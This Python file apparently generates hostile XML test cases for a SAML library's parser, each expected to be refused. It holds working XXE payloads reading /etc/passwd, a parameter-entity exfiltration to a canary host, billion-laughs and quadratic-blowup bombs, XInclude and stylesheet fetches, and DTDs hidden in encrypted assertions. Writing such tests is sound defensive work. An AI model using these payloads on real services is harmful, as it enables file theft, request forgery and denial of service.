"""Class 7: what XML can do that no response needs."""

from collections.abc import Iterator

from saml.errors import Denial
from tests.saml_forge.cases import Attack, attack
from tests.saml_forge.encryption import encrypted
from tests.saml_forge.messages import ASSERTION, SUBJECT, assertion, response
from tests.saml_forge.signing import sign

XML = Denial.XML_REFUSED
FILE = "file:///etc/passwd"


def make(canary: str) -> Iterator[Attack]:
    """An honest signed response with something before it or in it."""
    honest = sign(response(), ASSERTION)
    tree_bomb = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    square = "x" * 20_000
    subsets = (
        ("dtd-plain", "<!DOCTYPE r>", "no DTD at all"),
        ("dtd-with-element", "<!DOCTYPE r [<!ELEMENT r ANY>]>", "no DTD at all"),
        ("dtd-external-http", f'<!DOCTYPE r SYSTEM "{canary}/dtd">', "a DTD to be fetched"),
        ("dtd-external-file", f'<!DOCTYPE r SYSTEM "{FILE}">', "a DTD to be read from a file of ours"),
        ("dtd-public", f'<!DOCTYPE r PUBLIC "-//x//y" "{canary}/public">', "a DTD to be fetched"),
        ("dtd-in-lower-case", "<!doctype r>", "not well-formed"),
        ("xxe-file", f'<!DOCTYPE r [<!ENTITY x SYSTEM "{FILE}">]>', "an entity from a file of ours"),
        ("xxe-http", f'<!DOCTYPE r [<!ENTITY x SYSTEM "{canary}/xxe">]>', "an entity to be fetched"),
        (
            "parameter-entity-http",
            f'<!DOCTYPE r [<!ENTITY % x SYSTEM "{canary}/parameter">%x;]>',
            "a parameter entity to be fetched",
        ),
        (
            "parameter-entity-exfiltration",
            f'<!DOCTYPE r [<!ENTITY % f SYSTEM "{FILE}"><!ENTITY % d SYSTEM "{canary}/evil.dtd">%d;%f;]>',
            "a file of ours sent out in an address",
        ),
        ("billion-laughs", f'<!DOCTYPE r [<!ENTITY e0 "lol">{tree_bomb}]>', "entities in entities"),
        ("quadratic-blowup", f'<!DOCTYPE r [<!ENTITY x "{square}">]>', "one long entity, often"),
        ("recursive-entity", '<!DOCTYPE r [<!ENTITY x "&y;"><!ENTITY y "&x;">]>', "entities in a circle"),
        ("notation", f'<!DOCTYPE r [<!NOTATION n SYSTEM "{canary}/notation">]>', "a notation"),
    )
    uses = {
        "xxe-file": "&x;",
        "xxe-http": "&x;",
        "billion-laughs": "&e9;",
        "quadratic-blowup": "&x;" * 100,
        "recursive-entity": "&x;",
    }
    for name, subset, origin in subsets:
        yield attack(name, XML, origin, subset + honest.replace(SUBJECT, uses.get(name, SUBJECT)))
    declared = '<?xml version="1.0" encoding="UTF-8"?>'
    yield attack("dtd-behind-declaration", XML, "no DTD at all", f"{declared}\n<!DOCTYPE r>\n{honest}")
    yield attack("undefined-entity", XML, "not well-formed", honest.replace(SUBJECT, f"{SUBJECT}&nobody;"))
    sheet = f'<?xml-stylesheet type="text/xsl" href="{canary}/sheet"?>'
    yield attack("stylesheet-before-root", XML, "a program to be fetched", sheet + honest)
    yield attack("stylesheet-behind-root", XML, "the same behind the root", honest + sheet)
    yield attack("comment-before-root", XML, "no comments", "<!-- x -->" + honest)
    yield attack(
        "comment-in-response", XML, "no comments", honest.replace("<samlp:Status>", "<!--x--><samlp:Status>")
    )
    yield attack(
        "pi-in-response", XML, "no instructions", honest.replace("<samlp:Status>", "<?x y?><samlp:Status>")
    )
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{}"/>'
    for name, target in (("xinclude-file", FILE), ("xinclude-http", f"{canary}/xinclude")):
        made = sign(response(assertion().replace(SUBJECT, include.format(target))), ASSERTION)
        yield attack(name, Denial.IDENTITY_TEXT_REFUSED, "text to be fetched, in a name", made)
    location = (
        f' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x {canary}/schema"'
    )
    unsigned = response(
        sign(assertion(), ASSERTION), said=location, issued_by="", destination="https://x.example/"
    )
    yield attack(
        "schema-location",
        Denial.DESTINATION_MISMATCH,
        "a schema to be fetched: nobody does, and the message fails for another reason",
        unsigned,
    )
    inside = sign(assertion(), ASSERTION)
    yield attack(
        "dtd-in-ciphertext",
        XML,
        "a gate before decryption does not see it",
        response(encrypted(b"<!DOCTYPE r>" + inside.encode())),
    )
    yield attack(
        "xxe-in-ciphertext",
        XML,
        "the same with a file of ours",
        response(
            encrypted(f'<!DOCTYPE r [<!ENTITY x SYSTEM "{FILE}">]>{inside.replace(SUBJECT, "&x;")}'.encode())
        ),
    )
    yield attack(
        "comment-in-ciphertext",
        XML,
        "no comments",
        response(encrypted(inside.replace("<saml:Subject>", "<!--x--><saml:Subject>").encode())),
    )
